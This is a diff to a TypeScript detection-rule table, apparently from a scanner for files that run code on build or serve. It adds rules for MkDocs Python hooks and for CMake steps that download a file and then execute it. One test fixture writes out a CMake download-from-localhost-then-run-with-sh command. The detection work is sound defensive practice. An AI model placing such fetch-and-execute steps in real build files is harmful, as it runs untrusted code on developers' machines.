@@ -162,6 +162,34 @@ const BUILDS: readonly Row[] = [
 /** Programs that are started in the folder, or pointed at it, run these. */
 const PROGRAMS: readonly Row[] = [
   {
+    // Python files whose functions MkDocs calls while it builds or serves the pages.
+    rule: RUNS_IN_PLACE,
+    file: /(?:^|\/)mkdocs[\w.-]*\.ya?ml$/i,
+    pattern: /^hooks[ \t]*:[ \t]*(?:\[[^\]\n]*\.py\b.*|(?:#.*)?\r?\n(?:[ \t]*#.*\r?\n){0,5}[ \t]*-[ \t]*\S.*)/m,
+    fires: [
+      ['mkdocs.yml', 'site_name: x\nhooks:\n  - docs/hooks.py\n'],
+      ['mkdocs.yaml', 'hooks: [hooks.py]'],
+    ],
+    quiet: [
+      ['mkdocs.yml', 'site_name: x\nplugins:\n  - search\n'],
+      ['mkdocs.yml', 'hooks: []\n'],
+    ],
+  },
+  {
+    // What CMake fetched and then starts, or reads as a program of its own.
+    rule: FETCHED_CODE,
+    file: /(?:^|\/)CMakeLists\.txt$|\.cmake$/i,
+    pattern:
+      /\bfile\s*\(\s*DOWNLOAD\s+\S+\s+"?([^\s")]{3,200})[\s")][\s\S]{0,4000}?\bexecute_process\s*\(\s*COMMAND\s[^)]{0,200}?\1/i,
+    fires: [['CMakeLists.txt', 'file(DOWNLOAD http://127.0.0.1/p ${B}/p)\nexecute_process(COMMAND sh ${B}/p)']],
+    quiet: [
+      [
+        'CMakeLists.txt',
+        'file(DOWNLOAD https://example.org/w.bin ${B}/w.bin EXPECTED_HASH SHA256=00)\nexecute_process(COMMAND git describe)',
+      ],
+    ],
+  },
+  {
     rule: RUNS_IN_PLACE,
     file: /(?:^|\/)(?:etc\/conda\/(?:de)?activate\.d\/[^/]+|\.ipython\/profile_\w+\/startup\/[^/]+|profile_\w+\/startup\/[^/]+\.i?py|Library\/LaunchAgents\/[^/]+)$/,
     fires: [
